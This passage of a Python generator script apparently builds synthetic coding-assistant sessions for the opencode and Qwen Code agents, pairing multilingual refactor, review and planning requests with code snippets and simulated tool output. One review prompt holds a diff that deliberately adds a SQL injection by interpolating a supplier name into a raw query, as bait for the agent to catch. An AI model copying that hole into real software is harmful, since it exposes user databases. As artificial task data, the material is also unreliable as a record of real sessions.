    s.erase(s.begin(), std::find_if(s.begin(), s.end(), [](unsigned char c) { return !std::isspace(c); }));
    s.erase(std::find_if(s.rbegin(), s.rend(), [](unsigned char c) { return !std::isspace(c); }).base(), s.end());
    return s;
}

std::string to_lower(std::string s) {
    std::transform(s.begin(), s.end(), s.begin(), [](unsigned char c) { return std::tolower(c); });
    return s;
}

bool starts_with(std::string_view s, std::string_view prefix) {
    return s.size() >= prefix.size() && s.compare(0, prefix.size(), prefix) == 0;
}
''')

snip("swift_vm", "swift", "Sources/App/Feed/FeedViewModel.swift", '''
import Foundation
import Combine

@MainActor
final class FeedViewModel: ObservableObject {
    @Published private(set) var posts: [Post] = []
    @Published private(set) var isLoading = false
    @Published var errorMessage: String?

    private let api: FeedAPI
    private var nextCursor: String?
    private var cancellables = Set<AnyCancellable>()

    init(api: FeedAPI = .live) {
        self.api = api
    }

    func refresh() async {
        nextCursor = nil
        posts = []
        await loadMore()
    }

    func loadMore() async {
        guard !isLoading else { return }
        isLoading = true
        defer { isLoading = false }
        do {
            let page = try await api.fetchFeed(cursor: nextCursor)
            posts.append(contentsOf: page.items)
            nextCursor = page.nextCursor
        } catch {
            errorMessage = error.localizedDescription
        }
    }

    func toggleLike(_ post: Post) {
        guard let idx = posts.firstIndex(where: { $0.id == post.id }) else { return }
        posts[idx].isLiked.toggle()
        Task {
            try? await api.setLike(postID: post.id, liked: posts[idx].isLiked)
        }
    }
}
''')

snip("scala_spark", "scala", "src/main/scala/jobs/DailyRevenue.scala", '''
package jobs

import org.apache.spark.sql.{SparkSession, functions => F}

object DailyRevenue {
  def main(args: Array[String]): Unit = {
    val Array(input, output, day) = args
    val spark = SparkSession.builder().appName("daily-revenue").getOrCreate()
    import spark.implicits._

    val orders = spark.read.parquet(s"$input/orders")
    val fx = spark.read.parquet(s"$input/fx_rates")

    val revenue = orders
      .filter($"status" === "paid" && F.to_date($"paid_at") === F.lit(day))
      .join(fx, Seq("currency"), "left")
      .withColumn("amount_eur", $"amount" * F.coalesce($"rate_to_eur", F.lit(1.0)))
      .groupBy($"country", $"channel")
      .agg(F.sum("amount_eur").as("revenue_eur"), F.countDistinct("customer_id").as("customers"))
      .orderBy(F.desc("revenue_eur"))

    revenue.coalesce(1).write.mode("overwrite").option("header", "true").csv(s"$output/day=$day")
    spark.stop()
  }
}
''')

snip("lua_nvim", "lua", "lua/config/keymaps.lua", '''
local M = {}

local function map(mode, lhs, rhs, opts)
  opts = vim.tbl_extend("force", { noremap = true, silent = true }, opts or {})
  vim.keymap.set(mode, lhs, rhs, opts)
end

function M.setup()
  vim.g.mapleader = " "

  map("n", "<leader>w", "<cmd>write<cr>", { desc = "Save" })
  map("n", "<leader>q", "<cmd>quit<cr>", { desc = "Quit" })
  map("n", "<C-h>", "<C-w>h")
  map("n", "<C-j>", "<C-w>j")
  map("n", "<C-k>", "<C-w>k")
  map("n", "<C-l>", "<C-w>l")
  map("v", "<", "<gv")
  map("v", ">", ">gv")

  map("n", "<leader>ff", function()
    require("telescope.builtin").find_files({ hidden = true })
  end, { desc = "Find files" })
  map("n", "<leader>fg", function()
    require("telescope.builtin").live_grep()
  end, { desc = "Live grep" })

  vim.api.nvim_create_autocmd("TextYankPost", {
    callback = function()
      vim.highlight.on_yank({ timeout = 150 })
    end,
  })
end

return M
''')

snip("elixir_genserver", "elixir", "lib/shop/rate_limiter.ex", '''
defmodule Shop.RateLimiter do
  use GenServer

  @cleanup_every :timer.minutes(1)

  def start_link(opts) do
    GenServer.start_link(__MODULE__, opts, name: __MODULE__)
  end

  def hit(key, limit, window_ms) do
    GenServer.call(__MODULE__, {:hit, key, limit, window_ms})
  end

  @impl true
  def init(_opts) do
    Process.send_after(self(), :cleanup, @cleanup_every)
    {:ok, %{}}
  end

  @impl true
  def handle_call({:hit, key, limit, window_ms}, _from, state) do
    now = System.monotonic_time(:millisecond)
    hits = Map.get(state, key, []) |> Enum.filter(&(&1 > now - window_ms))

    if length(hits) >= limit do
      {:reply, {:error, :rate_limited}, Map.put(state, key, hits)}
    else
      {:reply, :ok, Map.put(state, key, [now | hits])}
    end
  end

  @impl true
  def handle_info(:cleanup, state) do
    now = System.monotonic_time(:millisecond)
    state = state |> Enum.reject(fn {_k, hits} -> Enum.all?(hits, &(&1 < now - 3_600_000)) end) |> Map.new()
    Process.send_after(self(), :cleanup, @cleanup_every)
    {:noreply, state}
  end
end
''')

snip("hs_expr", "haskell", "src/Expr.hs", '''
module Expr where

import Data.Char (isDigit, isSpace)

data Expr
  = Num Int
  | Add Expr Expr
  | Mul Expr Expr
  | Neg Expr
  deriving (Show, Eq)

eval :: Expr -> Int
eval (Num n) = n
eval (Add a b) = eval a + eval b
eval (Mul a b) = eval a * eval b
eval (Neg a) = negate (eval a)

-- very small recursive-descent parser: expr := term ('+' term)*, term := factor ('*' factor)*
parseExpr :: String -> Maybe Expr
parseExpr s = case expr (filter (not . isSpace) s) of
  Just (e, "") -> Just e
  _ -> Nothing
  where
    expr str = do
      (t, rest) <- term str
      go t rest
      where
        go acc ('+' : r) = do
          (t, r') <- term r
          go (Add acc t) r'
        go acc r = Just (acc, r)
    term str = do
      (f, rest) <- factor str
      go f rest
      where
        go acc ('*' : r) = do
          (f, r') <- factor r
          go (Mul acc f) r'
        go acc r = Just (acc, r)
    factor ('-' : r) = do
      (f, r') <- factor r
      Just (Neg f, r')
    factor ('(' : r) = do
      (e, r') <- expr r
      case r' of
        (')' : r'') -> Just (e, r'')
        _ -> Nothing
    factor str = case span isDigit str of
      ("", _) -> Nothing
      (ds, r) -> Just (Num (read ds), r)
''')

snip("sql_report", "sql", "reports/monthly_churn.sql", '''
WITH active AS (
    SELECT
        customer_id,
        date_trunc('month', period_start) AS month
    FROM subscriptions
    WHERE status IN ('active', 'past_due')
    GROUP BY 1, 2
),
churned AS (
    SELECT
        a.month,
        a.customer_id
    FROM active a
    LEFT JOIN active nxt
        ON nxt.customer_id = a.customer_id
       AND nxt.month = a.month + interval '1 month'
    WHERE nxt.customer_id IS NULL
)
SELECT
    a.month,
    count(DISTINCT a.customer_id) AS active_customers,
    count(DISTINCT c.customer_id) AS churned_customers,
    round(100.0 * count(DISTINCT c.customer_id) / count(DISTINCT a.customer_id), 2) AS churn_pct
FROM active a
LEFT JOIN churned c ON c.month = a.month AND c.customer_id = a.customer_id
GROUP BY a.month
ORDER BY a.month;
''')

snip("bash_deploy", "bash", "deploy/deploy.sh", '''
#!/usr/bin/env bash
set -euo pipefail

APP=shop-api
REGISTRY=registry.internal.example.com
ENVIRONMENT=${1:-staging}
TAG=$(git rev-parse --short HEAD)

echo "==> building $APP:$TAG"
docker build -t $REGISTRY/$APP:$TAG .
docker push $REGISTRY/$APP:$TAG

echo "==> deploying to $ENVIRONMENT"
for host in $(cat hosts/$ENVIRONMENT.txt); do
  ssh deploy@$host "docker pull $REGISTRY/$APP:$TAG && \\
    docker stop $APP || true && \\
    docker rm $APP || true && \\
    docker run -d --name $APP --env-file /etc/$APP.env -p 8080:8080 $REGISTRY/$APP:$TAG"
done

echo "==> smoke test"
for host in $(cat hosts/$ENVIRONMENT.txt); do
  curl -fsS http://$host:8080/healthz > /dev/null || { echo "health check failed on $host"; exit 1; }
done
echo "deployed $TAG to $ENVIRONMENT"
''')


# ---------------------------------------------------------------------------------------
# Batch 2: opencode and Qwen Code sessions
# ---------------------------------------------------------------------------------------

def oc_read(root: str, sn: Snip) -> str:
    n = len(sn.lines())
    return f"<file>\n{file_lines(sn.text)}\n(End of file - total {n} lines)\n</file>"


def oc_read_text(text: str) -> str:
    n = len(text.splitlines())
    return f"<file>\n{file_lines(text)}\n(End of file - total {n} lines)\n</file>"


def qw_sh(cmd: str, out: str, code: int = 0, err: str = "(empty)") -> str:
    return (f"Command: {cmd}\nDirectory: (root)\nStdout: {out if out else '(empty)'}\nStderr: {err}\n"
            f"Error: (none)\nExit Code: {code}\nSignal: (none)\nBackground PIDs: (none)\nProcess Group PGID: {40000 + len(cmd) * 37}")


def qw_grep(pattern: str, hits: list[tuple[str, int, str]]) -> str:
    body = "\n".join(f"---\nFile: {f}\nL{ln}: {t}" for f, ln, t in hits)
    return f'Found {len(hits)} matches for pattern "{pattern}" in path ".":\n{body}\n---'


OC = "/home/dev/code"

add("opencode", "refactor", "en", "python",
    "list_items does an ilike with the raw q, so `%` and `_` in the search act as wildcards. escape them. also cap offset at 10k",
    rule="R3", repo="inventory", files=["app/", "app/routers/", "tests/", "pyproject.toml"],
    steps=[("read", {"filePath": f"{OC}/inventory/app/routers/items.py"}, oc_read(OC, S["py_fastapi_items"]))])

add("opencode", "planning", "en", "python",
    "I want to add soft deletes to items (and later to the other models). figure out how that would touch the routers, queries and the unique constraints, and give me a plan before changing anything",
    rule="R2", repo="inventory", plan=True, files=["app/", "alembic/", "tests/"],
    steps=[("glob", {"pattern": "app/**/*.py"}, f"{OC}/inventory/app/db.py\n{OC}/inventory/app/models.py\n{OC}/inventory/app/schemas.py\n{OC}/inventory/app/routers/items.py\n{OC}/inventory/app/routers/suppliers.py\n{OC}/inventory/app/routers/stock.py\n"),
           ("read", {"filePath": f"{OC}/inventory/app/models.py"}, oc_read_text("from sqlalchemy import ForeignKey, String, UniqueConstraint\nfrom sqlalchemy.orm import DeclarativeBase, Mapped, mapped_column, relationship\n\n\nclass Base(DeclarativeBase):\n    pass\n\n\nclass Supplier(Base):\n    __tablename__ = \"suppliers\"\n    id: Mapped[int] = mapped_column(primary_key=True)\n    name: Mapped[str] = mapped_column(String(200), unique=True)\n    items: Mapped[list[\"Item\"]] = relationship(back_populates=\"supplier\")\n\n\nclass Item(Base):\n    __tablename__ = \"items\"\n    __table_args__ = (UniqueConstraint(\"supplier_id\", \"sku\"),)\n    id: Mapped[int] = mapped_column(primary_key=True)\n    sku: Mapped[str] = mapped_column(String(64))\n    name: Mapped[str] = mapped_column(String(200))\n    supplier_id: Mapped[int] = mapped_column(ForeignKey(\"suppliers.id\"))\n    supplier: Mapped[Supplier] = relationship(back_populates=\"items\")\n"))])

add("opencode", "review", "en", "typescript",
    "the DataTable sorts wrong when a column has numbers as strings ('10' < '9'). is that the comparator or something else? explain, don't touch it",
    rule="R11", repo="admin-ui", files=["src/", "src/components/", "package.json", "vite.config.ts"],
    steps=[("read", {"filePath": f"{OC}/admin-ui/src/components/DataTable.tsx"}, oc_read(OC, S["ts_datatable"]))])

add("opencode", "refactor", "en", "typescript",
    "DataTable: reset page to 0 when rows or sort changes, and clamp page if rows shrink. keep the API",
    rule="R8", repo="admin-ui", files=["src/", "src/components/", "package.json"],
    steps=[("read", {"filePath": f"{OC}/admin-ui/src/components/DataTable.tsx"}, oc_read(OC, S["ts_datatable"]))])

add("opencode", "completion", "en", "typescript",
    "write src/components/DataTable.test.tsx with vitest + @testing-library/react: renders headers, sorts asc/desc on click of a sortable column, ignores clicks on non-sortable, paginates with pageSize=2",
    rule="R4", repo="admin-ui", files=["src/", "src/components/", "package.json", "vitest.config.ts"],
    steps=[("read", {"filePath": f"{OC}/admin-ui/src/components/DataTable.tsx"}, oc_read(OC, S["ts_datatable"])),
           ("glob", {"pattern": "src/**/*.test.tsx"}, f"{OC}/admin-ui/src/components/Button.test.tsx\n{OC}/admin-ui/src/pages/Login.test.tsx\n")])

add("opencode", "review", "en", "javascript",
    "what's wrong with server/app.js from a security pov? list everything you find with line numbers, I'll decide what to fix",
    rule="R11", repo="blog", files=["server/", "public/", "package.json"],
    steps=[("read", {"filePath": f"{OC}/blog/server/app.js"}, oc_read(OC, S["js_express_app"]))])

add("opencode", "refactor", "en", "javascript",
    "convert server/app.js to async/await using mysql2/promise. the nested callback in GET /posts/:id should become two awaits. same routes, same responses",
    rule="R8", repo="blog", files=["server/", "package.json"],
    steps=[("read", {"filePath": f"{OC}/blog/server/app.js"}, oc_read(OC, S["js_express_app"])),
           ("bash", {"command": "npm ls mysql mysql2", "description": "Check installed mysql drivers"}, "blog@1.0.0 /home/dev/code/blog\n└── mysql@2.18.1\n\n")])

add("opencode", "planning", "en", "javascript",
    "the blog backend is one express file with raw mysql. we want comments moderation, auth for authors, and an admin UI. how would you structure this app going forward? folders, layers, what libs. plan only",
    rule="R2", repo="blog", plan=True, files=["server/", "public/", "package.json"],
    steps=[("list", {"path": f"{OC}/blog"}, f"{OC}/blog/\n  package.json\n  public/\n    index.html\n    main.js\n    style.css\n  server/\n    app.js\n"),
           ("read", {"filePath": f"{OC}/blog/server/app.js"}, oc_read(OC, S["js_express_app"]))])

add("opencode", "refactor", "zh", "go",
    "给 internal/httpx/middleware.go 的 statusRecorder 加上默认 200（没调用 WriteHeader 的时候现在会记成 0），再实现 Unwrap() 让 http.ResponseController 能用",
    rule="R3", repo="gateway", files=["cmd/", "internal/", "go.mod"],
    steps=[("read", {"filePath": f"{OC}/gateway/internal/httpx/middleware.go"}, oc_read(OC, S["go_middleware"]))])

add("opencode", "review", "ja", "go",
    "Recover ミドルウェアって、ハンドラがすでに WriteHeader した後に panic したらどうなりますか？レスポンスが壊れる気がする",
    rule="R6", repo="gateway", files=["cmd/", "internal/", "go.mod"],
    steps=[("grep", {"pattern": "func Recover", "include": "*.go"}, f"Found 1 matches\n{OC}/gateway/internal/httpx/middleware.go:\n  Line 36: func Recover(log *slog.Logger) func(http.Handler) http.Handler {{\n"),
           ("read", {"filePath": f"{OC}/gateway/internal/httpx/middleware.go", "offset": 30}, oc_read_text("\n".join(S["go_middleware"].text.splitlines()[35:]) + "\n"))])

add("opencode", "completion", "en", "go",
    "add a RequestID middleware to internal/httpx: reuse X-Request-ID from the request if it's a valid uuid, otherwise generate one (github.com/google/uuid is already in go.mod), put it in the context and the response header. plus a `RequestIDFrom(ctx) string` helper",
    rule="R7", repo="gateway", files=["cmd/", "internal/", "go.mod", "go.sum"],
    steps=[("read", {"filePath": f"{OC}/gateway/internal/httpx/middleware.go"}, oc_read(OC, S["go_middleware"]))])

add("opencode", "planning", "en", "go",
    "we're adding rate limiting to the gateway. per API key, per route group, and it has to work with 3 replicas behind the LB. redis? token bucket vs sliding window? where in the middleware chain? I'd like a plan I can review with the team",
    rule="R6", repo="gateway", files=["cmd/", "internal/", "deploy/", "go.mod"],
    steps=[("bash", {"command": "grep -rn 'Use(' cmd/ internal/ | head", "description": "Find middleware chain"}, "cmd/gateway/main.go:41:\tr.Use(httpx.Recover(log))\ncmd/gateway/main.go:42:\tr.Use(httpx.Logging(log))\ncmd/gateway/main.go:43:\tr.Use(auth.APIKey(keys))\n")])

add("opencode", "refactor", "en", "rust",
    "get rid of the unwraps in src/routes/notes.rs, map sqlx errors to 500 with a tracing::error!, keep the signatures returning Result<_, StatusCode>",
    rule="R3", repo="notes-api", files=["src/", "migrations/", "Cargo.toml"],
    steps=[("read", {"filePath": f"{OC}/notes-api/src/routes/notes.rs"}, oc_read(OC, S["rs_axum"])),
           ("bash", {"command": "cargo check 2>&1 | tail -5", "description": "Check build"}, "    Checking notes-api v0.1.0 (/home/dev/code/notes-api)\n    Finished `dev` profile [unoptimized + debuginfo] target(s) in 2.31s\n")])

add("opencode", "completion", "en", "rust",
    "add update_note (PUT /notes/:id, 404 if missing) and delete_note (DELETE, 204/404) handlers next to the others, same style",
    rule="R7", repo="notes-api", files=["src/", "Cargo.toml"],
    steps=[("read", {"filePath": f"{OC}/notes-api/src/routes/notes.rs"}, oc_read(OC, S["rs_axum"]))])

add("opencode", "review", "ru", "rust",
    "Объясни, почему get_or_insert_with в src/cache.rs может вызвать f() два раза для одного ключа при параллельных вызовах. Это баг или так и задумано?",
    rule="R6", repo="svc-core", files=["src/", "Cargo.toml"],
    steps=[("read", {"filePath": f"{OC}/svc-core/src/cache.rs"}, oc_read(OC, S["rs_cache"]))])

add("opencode", "planning", "de", "none",
    "Wir wollen Feature-Flags einführen (aktuell if-Abfragen auf ENV-Variablen überall). Welche Optionen gibt es — Unleash selbst hosten, LaunchDarkly, eine eigene Tabelle? Bitte mit Empfehlung für ein Team von 5 Leuten und einem Migrationsplan.",
    rule="R6", repo="platform", plan=True)

add("opencode", "refactor", "en", "java",
    "ProductController.update: validate with @Valid and return 400 with field errors; create should return 201 with Location header. add the ControllerAdvice if needed",
    rule="R8", repo="catalog-svc", files=["src/main/java/", "src/test/java/", "pom.xml"],
    steps=[("read", {"filePath": f"{OC}/catalog-svc/src/main/java/com/acme/catalog/ProductController.java"}, oc_read(OC, S["java_controller"]))])

add("opencode", "completion", "es", "java",
    "Escribe los tests de ProductController con @WebMvcTest y MockMvc: list con y sin category, get 200/404, update 404 cuando no existe. El repo se mockea con @MockBean.",
    rule="R4", repo="catalog-svc", files=["src/main/java/", "src/test/java/", "pom.xml"],
    steps=[("read", {"filePath": f"{OC}/catalog-svc/src/main/java/com/acme/catalog/ProductController.java"}, oc_read(OC, S["java_controller"]))])

add("opencode", "review", "en", "c",
    "is ht_put in src/hashtable.c ok if key is NULL? and what happens when count grows way past nbuckets, do we ever resize?",
    rule="R6", repo="cutils", files=["src/", "tests/", "Makefile"],
    steps=[("read", {"filePath": f"{OC}/cutils/src/hashtable.c"}, oc_read(OC, S["c_hashtable"]))])

add("opencode", "refactor", "en", "c",
    "add resizing to the hashtable: double nbuckets when count > 0.75*nbuckets, rehash in place. add ht_remove too while you're there",
    rule="R8", repo="cutils", files=["src/", "tests/", "Makefile"],
    steps=[("read", {"filePath": f"{OC}/cutils/src/hashtable.c"}, oc_read(OC, S["c_hashtable"])),
           ("read", {"filePath": f"{OC}/cutils/src/hashtable.h"}, oc_read_text("#ifndef HASHTABLE_H\n#define HASHTABLE_H\n#include <stddef.h>\n\ntypedef struct hashtable hashtable;\n\nhashtable *ht_new(size_t nbuckets);\nvoid ht_put(hashtable *ht, const char *key, void *value);\nvoid *ht_get(hashtable *ht, const char *key);\nvoid ht_free(hashtable *ht);\n\n#endif\n"))])

add("opencode", "planning", "en", "none",
    "how should we test the gateway end to end? right now only unit tests. we have auth, rate limits coming, upstream retries. what's the test strategy and tooling you'd suggest (testcontainers? k6? contract tests with the upstreams?)",
    rule="R4", repo="gateway")

add("opencode", "review", "en", "typescript",
    "what does `z.coerce.number()` do with PORT='' ? and why does env.ts crash the test runner even though I set NODE_ENV=test",
    rule="R6", repo="api", files=["src/", "test/", "package.json"],
    steps=[("read", {"filePath": f"{OC}/api/src/env.ts"}, oc_read(OC, S["ts_env"])),
           ("bash", {"command": "npx vitest run 2>&1 | head -30", "description": "Run tests"}, " FAIL  test/health.test.ts [ test/health.test.ts ]\nZodError: [\n  {\n    \"code\": \"invalid_type\",\n    \"expected\": \"string\",\n    \"received\": \"undefined\",\n    \"path\": [\n      \"DATABASE_URL\"\n    ],\n    \"message\": \"Required\"\n  },\n  {\n    \"code\": \"invalid_type\",\n    \"expected\": \"string\",\n    \"received\": \"undefined\",\n    \"path\": [\n      \"JWT_SECRET\"\n    ],\n    \"message\": \"Required\"\n  }\n]\n ❯ src/env.ts:12:27\n ❯ src/app.ts:3:1\n\n Test Files  1 failed (1)\n      Tests  no tests\n")])

add("opencode", "refactor", "ko", "typescript",
    "env.ts 에서 parse 실패하면 어떤 변수가 문제인지 사람이 읽기 좋게 출력하고 process.exit(1) 하도록 바꿔줘. 테스트 환경에서는 .env.test 를 먼저 로드하게 하고",
    rule="R8", repo="api", files=["src/", "test/", "package.json", ".env.example"],
    steps=[("read", {"filePath": f"{OC}/api/src/env.ts"}, oc_read(OC, S["ts_env"]))])

add("opencode", "planning", "en", "none",
    "ok so product wants offline mode in the mobile app (react native). orders created offline must sync later, conflicts possible with stock. where do we even start? I need the architecture + the phases",
    rule="R7", repo="mobile")

add("opencode", "review", "en", "bash",
    "explain deploy/deploy.sh to me like I'm new here. what happens if one host fails halfway?",
    rule="R6", repo="shop-api", files=["deploy/", "src/", "Dockerfile"],
    steps=[("read", {"filePath": f"{OC}/shop-api/deploy/deploy.sh"}, oc_read(OC, S["bash_deploy"]))])

add("opencode", "refactor", "en", "bash",
    "make deploy.sh safer: quote all the vars, fail if hosts file is missing, do a rolling deploy that stops at the first unhealthy host and rolls that host back to the previous tag",
    rule="R8", repo="shop-api", files=["deploy/", "src/", "Dockerfile"],
    steps=[("read", {"filePath": f"{OC}/shop-api/deploy/deploy.sh"}, oc_read(OC, S["bash_deploy"]))])

add("opencode", "planning", "es", "none",
    "Queremos dejar de desplegar con ese deploy.sh por ssh y pasar a Kubernetes (tenemos un cluster EKS que usa otro equipo). ¿Qué pasos seguirías? Helm o Kustomize, cómo manejar los secretos, migraciones de base de datos durante el deploy, y cómo hacer rollback.",
    rule="R2", repo="shop-api", plan=True, files=["deploy/", "src/", "Dockerfile"],
    steps=[("read", {"filePath": f"{OC}/shop-api/deploy/deploy.sh"}, oc_read(OC, S["bash_deploy"])),
           ("read", {"filePath": f"{OC}/shop-api/Dockerfile"}, oc_read_text("FROM node:20-alpine AS build\nWORKDIR /app\nCOPY package*.json ./\nRUN npm ci\nCOPY . .\nRUN npm run build\n\nFROM node:20-alpine\nWORKDIR /app\nCOPY --from=build /app/dist ./dist\nCOPY --from=build /app/node_modules ./node_modules\nCMD [\"node\", \"dist/server.js\"]\n"))])

add("opencode", "completion", "en", "sql",
    "write the query for reports/top_products.sql: top 20 products by revenue for the last 30 days, with units sold and number of distinct customers, using orders/order_items/products (schema in the migration)",
    rule="R7", repo="shop-api", files=["reports/", "migrations/", "src/"],
    steps=[("grep", {"pattern": "CREATE TABLE (orders|order_items|products)", "include": "*.sql"}, f"Found 3 matches\n{OC}/shop-api/migrations/0001_init.sql:\n  Line 3: CREATE TABLE products (id bigserial primary key, sku text unique not null, name text not null, price_cents int not null);\n  Line 9: CREATE TABLE orders (id bigserial primary key, customer_id bigint not null, status text not null, created_at timestamptz not null default now());\n  Line 15: CREATE TABLE order_items (order_id bigint references orders(id), product_id bigint references products(id), qty int not null, unit_price_cents int not null);\n")])

add("opencode", "review", "en", "sql",
    "is the churn query right? I think customers who pause for a month and come back are counted as churned, which is what we want, but check the join on month + interval",
    rule="R6", repo="analytics", files=["reports/", "dbt/"],
    steps=[("read", {"filePath": f"{OC}/analytics/reports/monthly_churn.sql"}, oc_read(OC, S["sql_report"]))])

add("opencode", "refactor", "it", "sql",
    "Riscrivi monthly_churn.sql per escludere il mese corrente (incompleto) e per contare come attivi anche i clienti in 'trialing'. Il resto uguale.",
    rule="R8", repo="analytics", files=["reports/", "dbt/"],
    steps=[("read", {"filePath": f"{OC}/analytics/reports/monthly_churn.sql"}, oc_read(OC, S["sql_report"]))])

add("opencode", "refactor", "en", "python",
    "fix",
    rule="R3", repo="inventory", files=["app/", "tests/"],
    history=[("user", "tests/test_items.py::test_update_unknown_item fails, can you look"),
             ("assistant", "The test expects a 404 JSON body `{\"detail\": \"Item 999 not found\"}` but `update_item` raises `HTTPException(404, \"item not found\")`. Either the message in the router or the assertion needs to change. The router message is also inconsistent with `get_item`, which uses `f\"Item {item_id} not found\"`.")],
    steps=[("read", {"filePath": f"{OC}/inventory/app/routers/items.py", "offset": 34}, oc_read_text("\n".join(S["py_fastapi_items"].text.splitlines()[35:]) + "\n"))])

add("opencode", "completion", "ja", "python",
    "app/routers/items.py に DELETE /items/{item_id} を追加してください。存在しなければ 404、成功したら 204。他のエンドポイントと同じ書き方で。",
    rule="R7", repo="inventory", files=["app/", "tests/"],
    steps=[("read", {"filePath": f"{OC}/inventory/app/routers/items.py"}, oc_read(OC, S["py_fastapi_items"]))])

add("opencode", "review", "zh", "swift",
    "FeedViewModel 里 toggleLike 失败的时候 UI 状态会不一致吧？还有 refresh 的时候如果 loadMore 正在跑会怎样？帮我分析一下，不用改代码",
    rule="R6", repo="ios-app", files=["Sources/", "Tests/", "Package.swift"],
    steps=[("read", {"filePath": f"{OC}/ios-app/Sources/App/Feed/FeedViewModel.swift"}, oc_read(OC, S["swift_vm"]))])

add("opencode", "refactor", "en", "swift",
    "make toggleLike optimistic but roll back on error and surface errorMessage; also cancel the in-flight loadMore when refresh() is called",
    rule="R8", repo="ios-app", files=["Sources/", "Tests/", "Package.swift"],
    steps=[("read", {"filePath": f"{OC}/ios-app/Sources/App/Feed/FeedViewModel.swift"}, oc_read(OC, S["swift_vm"]))])

add("opencode", "planning", "en", "swift",
    "we want to move the iOS app from ObservableObject/Combine to the Observation framework (@Observable) and Swift 6 strict concurrency. how big is this, what order, what breaks? plan mode pls",
    rule="R2", repo="ios-app", plan=True, files=["Sources/", "Tests/", "Package.swift"],
    steps=[("grep", {"pattern": "ObservableObject", "include": "*.swift"}, f"Found 14 matches\n{OC}/ios-app/Sources/App/Feed/FeedViewModel.swift:\n  Line 5: final class FeedViewModel: ObservableObject {{\n{OC}/ios-app/Sources/App/Profile/ProfileViewModel.swift:\n  Line 7: final class ProfileViewModel: ObservableObject {{\n{OC}/ios-app/Sources/App/Settings/SettingsStore.swift:\n  Line 4: final class SettingsStore: ObservableObject {{\n{OC}/ios-app/Sources/App/Auth/SessionStore.swift:\n  Line 9: final class SessionStore: ObservableObject {{\n".replace("{{", "{"))])

add("opencode", "review", "en", "elixir",
    "does Shop.RateLimiter become a bottleneck? every hit goes through one GenServer. ballpark how many req/s before it hurts, and what would you watch",
    rule="R6", repo="shop-ex", files=["lib/", "test/", "mix.exs"],
    steps=[("read", {"filePath": f"{OC}/shop-ex/lib/shop/rate_limiter.ex"}, oc_read(OC, S["elixir_genserver"]))])

add("opencode", "refactor", "en", "elixir",
    "rewrite RateLimiter to use an ETS table with :ets.update_counter and fixed windows so hit/3 doesn't go through the GenServer. GenServer only owns the table and does cleanup",
    rule="R8", repo="shop-ex", files=["lib/", "test/", "mix.exs"],
    steps=[("read", {"filePath": f"{OC}/shop-ex/lib/shop/rate_limiter.ex"}, oc_read(OC, S["elixir_genserver"]))])

add("opencode", "planning", "en", "none",
    "give me a todo list for upgrading this repo from node 16 to node 22. don't do anything yet",
    rule="R2", repo="blog", plan=True, files=["server/", "public/", "package.json", ".nvmrc", "Dockerfile"])

add("opencode", "review", "en", "python",
    "anything in this diff I should worry about before merging?\n\n```diff\n--- a/app/routers/items.py\n+++ b/app/routers/items.py\n@@ -14,12 +14,15 @@ router = APIRouter(prefix=\"/items\", tags=[\"items\"])\n async def list_items(\n     q: str | None = None,\n-    limit: int = Query(50, le=200),\n+    limit: int = Query(50, le=1000),\n     offset: int = 0,\n+    supplier: str | None = None,\n     session: AsyncSession = Depends(get_session),\n ):\n     stmt = select(Item).order_by(Item.id).limit(limit).offset(offset)\n     if q:\n         stmt = stmt.where(Item.name.ilike(f\"%{q}%\"))\n+    if supplier:\n+        stmt = stmt.where(text(f\"supplier_id IN (SELECT id FROM suppliers WHERE name = '{supplier}')\"))\n     result = await session.execute(stmt)\n     return result.scalars().all()\n```",
    rule="R6", repo="inventory", files=["app/", "tests/"])

# --- Qwen Code ---------------------------------------------------------------------------

QW = "/home/dev/projects"

add("qwen", "refactor", "zh", "python",
    "把 etl/load_orders.py 改成批量插入（executemany 或者 COPY 都行），现在一条一条 insert 太慢了。另外 fx_rate 缺失的时候默认 1 这个逻辑有问题，非 EUR 又没有汇率的行应该跳过并打日志",
    rule="R3", repo="warehouse", files=["etl/", "sql/", "tests/", "requirements.txt"],
    steps=[("read_file", {"absolute_path": f"{QW}/warehouse/etl/load_orders.py"}, S["py_etl"].text),
           ("read_file", {"absolute_path": f"{QW}/warehouse/etl/db.py"}, "import os\n\nimport psycopg2\n\n\ndef get_conn():\n    return psycopg2.connect(os.environ[\"WAREHOUSE_URL\"])\n")])

add("qwen", "review", "zh", "python",
    "这个 load_orders 函数有什么问题？时区、精度、事务这些方面帮我过一遍，先别改",
    rule="R11", repo="warehouse", files=["etl/", "sql/", "tests/"],
    steps=[("read_file", {"absolute_path": f"{QW}/warehouse/etl/load_orders.py"}, S["py_etl"].text)])

add("qwen", "planning", "zh", "none",
    "我们打算把数据仓库从自建 Postgres 迁到 ClickHouse，报表查询现在太慢了。帮我评估一下：哪些表适合迁、ETL 要怎么改、双写期间怎么校验数据一致性，给个分阶段计划",
    rule="R2", repo="warehouse", plan=True, files=["etl/", "sql/", "reports/", "tests/"],
    steps=[("list_directory", {"path": f"{QW}/warehouse/sql"}, f"Directory listing for {QW}/warehouse/sql:\nrebuild_aggregates.sql\nschema.sql\nviews.sql"),
           ("run_shell_command", {"command": "wc -l sql/*.sql && grep -c 'CREATE TABLE' sql/schema.sql", "description": "统计 SQL 文件"}, qw_sh("wc -l sql/*.sql && grep -c 'CREATE TABLE' sql/schema.sql", "  212 sql/rebuild_aggregates.sql\n  640 sql/schema.sql\n  158 sql/views.sql\n 1010 total\n23"))])

add("qwen", "completion", "zh", "go",
    "在 cmd/ 下面新建一个 restore 子命令，参数是备份文件路径和目标数据库名，gunzip 之后 pipe 给 psql，风格跟 backup.go 保持一致",
    rule="R7", repo="pgtool", files=["cmd/", "main.go", "go.mod"],
    steps=[("read_file", {"absolute_path": f"{QW}/pgtool/cmd/backup.go"}, S["go_cobra"].text)])

add("qwen", "review", "en", "go",
    "is the prune function in cmd/backup.go safe? it runs as root on the db box",
    rule="R6", repo="pgtool", files=["cmd/", "main.go", "go.mod"],
    steps=[("read_file", {"absolute_path": f"{QW}/pgtool/cmd/backup.go"}, S["go_cobra"].text)])

add("qwen", "refactor", "en", "go",
    "backup.go builds a shell string with the db name in it — use exec with pg_dump directly and pipe into gzip in Go (compress/gzip), no sh -c. also prune should only delete files matching <db>-*.sql.gz",
    rule="R8", repo="pgtool", files=["cmd/", "main.go", "go.mod"],
    steps=[("read_file", {"absolute_path": f"{QW}/pgtool/cmd/backup.go"}, S["go_cobra"].text),
